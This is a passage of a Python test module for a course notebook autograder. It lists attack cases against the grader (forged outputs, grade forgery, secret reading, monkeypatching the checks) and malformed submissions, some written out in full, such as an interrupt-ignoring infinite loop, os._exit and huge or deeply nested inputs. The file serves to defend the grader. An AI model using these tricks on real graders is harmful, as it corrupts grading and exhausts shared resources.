            passes=list(ALL_TESTS),
            flags=["imports backprop_course.bridge"],
        ),
        Case(
            "atk_leak_via_visible_error",
            _indep(
                {
                    "mse_loss": HIDDEN_STRUCTURE_MSE_LOSS,
                    "tanh": HIDDEN_STRUCTURE_TANH,
                    "linear_backward": HIDDEN_STRUCTURE_LINEAR_BACKWARD,
                    "mlp": VIA_VISIBLE_ERROR_MLP,
                },
                after={"imports": VIA_VISIBLE_ERROR_AFTER_IMPORTS},
                move=tuple((t, "END") for t in ALL_TESTS),
            ),
            score="partial",
            passes=list(ALL_TESTS[:6]),
            flags=["imports backprop_course.bridge"],
        ),
        Case(
            "atk_leak_names_made_at_run_time",
            _indep(
                {"linear_backward": NAMES_MADE_AT_RUN_TIME_LINEAR_BACKWARD, "mlp": NAMES_MADE_AT_RUN_TIME_MLP},
                base="reference",
            ),
            score="partial",
            passes=["test_mse_loss", "test_tanh_forward", "test_tanh_backward"],
        ),
        Case(
            "atk_leak_refused_request_text",
            _indep(after={"imports": REFUSED_REQUEST_AFTER_IMPORTS}, base="reference"),
            score="any",
            flags=["imports backprop_course.bridge"],
        ),
        Case(
            "atk_meta_fake_grade_cell",
            _indep(edit=_fake_grade_cell),
            score="zero",
            passes=[],
            flags=["graded cell(s) that the assignment does not have"],
        ),
        Case(
            "atk_meta_test_cell_role_change",
            _indep(edit=_test_becomes_answer),
            score="zero",
            passes=[],
            notes=["test_tanh_forward", "the original was restored"],
        ),
    ]
    # A resource attack on the grader's side. The others are bad_input_cases (res_disk_fill: bad_disk_fill,
    # res_memory_beyond_cap: bad_memory_children, res_output_flood: bad_huge_output_line and bad_output_flood)
    # or too slow for this batch: res_cpu_hog (40 busy children, 81 s of sleeps), res_tester_hang_flood and
    # res_tester_oom (each holds a worker 40-60 s: every test cell after the first waits out the timeout).
    cases += [
        Case(
            "atk_res_grader_hang_fifo",
            _indep(after={"imports": GRADER_HANG_FIFO}, base="reference"),
            passes=list(ALL_TESTS),
            flags=["imports pydoc"],
        ),
    ]
    for case in cases:
        case.assignment = "tanh_mlp"
    return cases


def attack_cases() -> list[Case]:
    """Attacks on the grader: each must fail (checked by the tests) and be flagged."""
    return [
        Case(
            "atk_forge_displayhook",
            _blank_answering('getattr(sys, "displayhook")("ok")\nraise NotImplementedError()', "import sys"),
            score="zero",
            flags=["uses sys.displayhook"],
        ),
        Case(
            "atk_forge_custom_exc",
            _blank_answering("raise NotImplementedError()", CUSTOM_EXC),
            score="zero",
            flags=["get_ipython"],
        ),
        Case(
            "atk_forge_array_objects",
            _blank_answering("return Forged()", ARRAY_FORGER),
            score="zero",
            flags=["sys._getframe"],
        ),
        Case("atk_print_history", _with_code(PRINT_HISTORY, where="end"), score="full", flags=["reads In"]),
        Case("atk_read_secrets", _with_code(READ_SECRETS), flags=["imports os"]),
        Case("atk_forge_grades", _with_code(FORGE_GRADES), flags=["imports sqlite3"]),
        Case("atk_write_others", _with_code(WRITE_OTHERS), flags=["opens a file"]),
        Case("atk_network", _with_code(NETWORK), flags=["imports socket"]),
        Case("atk_processes", _with_code(PROCESSES), flags=["imports os"]),
        Case(
            "atk_kernel_fds_junk",
            _indep({"mse_loss": KERNEL_FDS_JUNK}, base="reference"),
            score="any",
            flags=["imports os"],
            assignment="tanh_mlp",
        ),
        Case(
            "atk_monkeypatch",
            _with_code(MONKEYPATCH, where="new-cell"),
            score="full",
            flags=["reassigns numpy.allclose", "reassigns backprop_course.gradcheck.check_gradient"],
        ),
        Case("atk_ipython_hook", _with_code(IPYTHON_HOOK), flags=["get_ipython"]),
        Case("atk_symlink", _symlink, notes=["symbolic links"]),
        Case("atk_odd_files", _odd_files, notes=["devices, FIFOs", "hard links", "archives", "control characters"]),
        *indep_cases(),
    ]


def bad_input_cases() -> list[Case]:
    """Broken submissions: each gets a score and a reason, and none stops the batch."""
    return [
        Case(
            "bad_syntax_error",
            _with_code("def broken(:\n    pass", where="replace-first-answer"),
            score="partial",
            reason="syntax error in cell",
        ),
        Case(
            "bad_loop_in_answer",
            _with_code("while True:\n    pass", where="replace-first-answer"),
            score="partial",
            reason="hangs",
            flags=["hangs"],
        ),
        Case(
            "bad_loop_in_function",
            _edit(lambda nb, ctx: _loop_in_function(nb)),
            score="partial",
            reason="timed out",
            flags=["timed out"],
        ),
        Case(
            "bad_hang_after_answers", _with_code("while True:\n    pass"), score="full", reason="hangs", flags=["hangs"]
        ),
        Case(
            "bad_uninterruptible_hang",
            _with_code(
                "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass", where="new-cell"
            ),
            score="full",  # a cell of the student's own: a new kernel runs the cells before it again and goes on
            reason="ignored an interrupt",
            flags=["ignored an interrupt", "imports signal"],
        ),
        Case(
            "bad_slow_to_leave_a_test",
            _edit(lambda nb, ctx: _slow_in_function(nb)),
            score="partial",  # round 32: the tests after it were lost to a tester that had given up on the kernel
            reason="timed out",
            flags=["did not close the test's session in time", "imports signal"],
        ),
        Case(
            "bad_os_exit",
            _with_code("import os\nos._exit(1)"),
            score="partial",  # a new kernel grades the cells after the one that ended the kernel
            reason="kernel died while running cell",
            flags=["kernel died while running cell"],
        ),
        Case(
            "bad_memory_bomb",
            _with_code(MEMORY_BOMB, where="new-cell"),
            score="full",
            reason="memory cap",
            flags=["memory cap"],
        ),
        Case("bad_fork_bomb", _with_code(FORK_BOMB, where="new-cell"), score="any", flags=["process limit"]),
        Case("bad_disk_fill", _with_code(DISK_FILL, where="new-cell"), score="full", flags=["/scratch", "/tmp"]),
        Case("bad_memory_children", _with_code(MEMORY_CHILDREN, where="new-cell"), score="any", flags=["memory limit"]),
        Case(
            "bad_huge_output_line",
            _with_code("print('x' * (100 * 2**20))", where="new-cell"),
            score="full",
        ),
        Case(
            "bad_huge_notebook",
            _edit(lambda nb, ctx: nb.cells.append(nbformat.v4.new_markdown_cell("x" * (60 * 2**20)))),
            status="failed",
            score="zero",
            reason="over the 50 MB limit",
            flags=["over the 50 MB limit"],
        ),
        Case(
            "bad_deep_json",
            _raw(
                lambda t: t.replace(
                    '"metadata": {', '"metadata": {"deep": ' + "[" * 200_000 + "]" * 200_000 + ",", 1
                ).encode()
            ),
            status="failed",
            score="zero",
            reason="nested too deeply",
            flags=["nested too deeply"],
        ),
        Case(
            "bad_output_flood",
            _with_code("print('\\n'.join(map(str, range(200000))))", where="new-cell"),
            score="full",
            reason="truncated",
            no_flags=True,
        ),
        Case("bad_deleted_test", _edit(_delete_test), score="full", reason="deleted, restored", no_flags=True),
        Case(
            "bad_edited_tests",
            _edit(_edit_tests),
            score="full",
            reason="edited, the original was restored",
            no_flags=True,
        ),
        Case("bad_duplicated_test", _edit(_duplicate_test), score="full", reason="duplicated", no_flags=True),
        Case(
            "bad_stripped_metadata",
            _edit(_strip_metadata),
            status="failed",
            score="zero",
            reason="metadata was stripped",
            flags=["metadata was stripped"],
        ),
        Case(
            "bad_corrupt_json",
            _raw(lambda t: t[: len(t) // 2].encode()),
            status="failed",
            score="zero",
            reason="corrupt JSON",
            flags=["corrupt JSON"],
        ),
        Case("bad_renamed", _renamed("{a} (1).ipynb"), notes=["graded tanh_mlp (1).ipynb as"], no_flags=True),
        Case("bad_renamed_copy_of", _renamed("Copy of {a}.ipynb"), notes=["graded Copy of"], no_flags=True),
        Case("bad_renamed_in_subfolder", _renamed("{a}-jdoe.ipynb", "work"), notes=["graded work/"], no_flags=True),
        Case(
            "bad_two_notebooks",
            _two_candidates,
            status="failed",
            score="zero",
            reason="several notebooks",
            flags=["several notebooks"],
        ),
        Case(
            "bad_timestamp_invalid",
            _timestamp("next tuesday"),
            reason="timestamp.txt is not a time",
            flags=["timestamp.txt is not a time"],
        ),
        Case(
            "bad_timestamp_blank",
            _timestamp("   \n"),
            reason="timestamp.txt is empty",
            flags=["timestamp.txt is empty"],
        ),
        Case("bad_timestamp_missing", _timestamp(None), no_flags=True),
        Case(
            "bad_timestamp_and_truncated",
            _timestamp("not a time", raw=lambda t: t[: len(t) // 3].encode()),
            status="failed",
            score="zero",
            reason="corrupt JSON",
            flags=["corrupt JSON", "timestamp.txt is not a time"],
        ),
        Case(
            "bad_missing_notebook",
            _missing,
            status="failed",
            score="zero",
            reason="missing notebook",
            flags=["missing notebook"],
        ),
        Case("bad_extra_files", _extra_files, score="full", reason="extra files", no_flags=True),
        Case(
            "bad_not_utf8",
            _raw(lambda t: t.replace("Tanh", "Tanh\u00e9", 1).encode("latin-1", "replace")),
            status="failed",
            score="zero",
            reason="not valid UTF-8",
            flags=["UTF-8"],
        ),
        Case(
            "bad_empty_file",
            _raw(lambda t: b""),
            status="failed",
            score="zero",
            reason="empty notebook file",
            flags=["empty"],
        ),
    ]


def _loop_in_function(nb: nbformat.NotebookNode) -> None:
    """The first function of the first answer cell loops forever when a test calls it (the cell runs fine)."""
    first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    out, done = [], False
    for line in first.source.splitlines():
        out.append(line)
        stripped = line.lstrip()
        if not done and stripped.startswith("def ") and "__init__" not in line and line.rstrip().endswith(":"):
            indent = line[: len(line) - len(stripped)] + "    "
            out.append(f"{indent}while True:\n{indent}    pass")
            done = True
    first.source = "\n".join(out)


def _slow_in_function(nb: nbformat.NotebookNode) -> None:
    """The first function of the first answer cell, when a test calls it, ignores the interrupt and returns only after
    the test's time limit and the grader's wait for the end of its session (END_SECONDS) are over (round 32: a kernel
    slowed at its memory limit did the same)."""
    from backprop_course.grade.execute import END_SECONDS

    first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    out, done = [], False
    for line in first.source.splitlines():
        out.append(line)
        stripped = line.lstrip()
        if not done and stripped.startswith("def ") and "__init__" not in line and line.rstrip().endswith(":"):
            indent = line[: len(line) - len(stripped)] + "    "
            out += [
                f"{indent}import signal, time",
                f"{indent}signal.signal(signal.SIGINT, signal.SIG_IGN)",
                f"{indent}time.sleep({END_SECONDS + 8:g})",
                f"{indent}signal.signal(signal.SIGINT, signal.default_int_handler)",
            ]
            done = True
    first.source = "\n".join(out)


def write_corpus(course, assignment: str, tmp: Path, cases: list[Case]) -> dict[str, Case]:
    """Write every case as a student of ``course`` (plus the honest ``victim``); returns ``{student: case}``."""
    ctx = {
        "course": course,
        "assignment": assignment,
        "tmp": tmp,
        "release": course.release_dir / assignment / f"{assignment}.ipynb",
    }
    write_submission(course, VICTIM, assignment, "reference")
    out = {}
    for case in cases:
        folder = course.submitted_dir / case.name / assignment
        shutil.rmtree(folder, ignore_errors=True)
        case.build(folder, ctx)
        out[case.name] = case
    return out


def corpus_assignment(assignments: list[str]) -> str:
    """The assignment the corpora are built on (tanh_mlp when selected)."""
    return "tanh_mlp" if "tanh_mlp" in assignments else assignments[0]


def known_answer_cases(course, assignment: str) -> list[str]:
    return sorted(load_cases(answers_dir(course), assignment))


def dump(obj) -> str:
    return json.dumps(obj, indent=1, default=str)
